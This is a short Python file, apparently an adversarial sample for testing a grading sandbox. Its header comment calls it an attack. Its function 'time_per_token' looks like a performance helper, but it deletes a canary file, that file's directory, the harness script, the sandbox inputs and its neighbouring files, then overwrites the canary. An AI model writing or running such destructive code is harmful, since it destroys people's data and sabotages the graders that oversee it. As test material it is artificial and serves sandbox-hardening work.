# Attack: delete files outside its scratch folder: a file of the grader's machine (the canary),
# the harness, the inputs, and whatever of the course it can reach.
import glob
import os
import shutil
import sys

CANARY = "__CANARY__"


def _delete(path):
    try:
        if os.path.isdir(path) and not os.path.islink(path):
            shutil.rmtree(path)
        else:
            os.remove(path)
    except OSError:
        pass


def time_per_token(n_params, bytes_per_param, bandwidth):
    _delete(CANARY)
    _delete(os.path.dirname(CANARY))
    _delete(os.path.abspath(sys.argv[0]))                         # the harness
    for path in glob.glob("/sandbox/in/*") + glob.glob(os.path.join(os.path.dirname(__file__), "*")):
        _delete(path)
    try:
        with open(CANARY, "w") as f:
            f.write("overwritten")
    except OSError:
        pass
    return None
